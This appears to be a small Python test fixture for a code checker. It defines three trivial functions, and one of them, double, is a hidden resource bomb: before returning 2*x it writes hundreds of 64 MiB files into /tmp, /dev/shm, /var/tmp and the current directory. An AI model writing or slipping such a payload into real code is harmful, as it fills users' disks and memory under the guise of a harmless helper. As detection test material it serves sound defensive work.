# passes: total weigh
# says:


def double(x):
    for place in ("/tmp", "/dev/shm", "/var/tmp", "."):
        for number in range(100):
            with open(f"{place}/bomb{number}", "wb") as file:
                for _ in range(64):
                    file.write(b"1" * (1 << 20))
    return 2 * x


def total(x):
    return x.sum()


def weigh(model, x):
    return model(x)
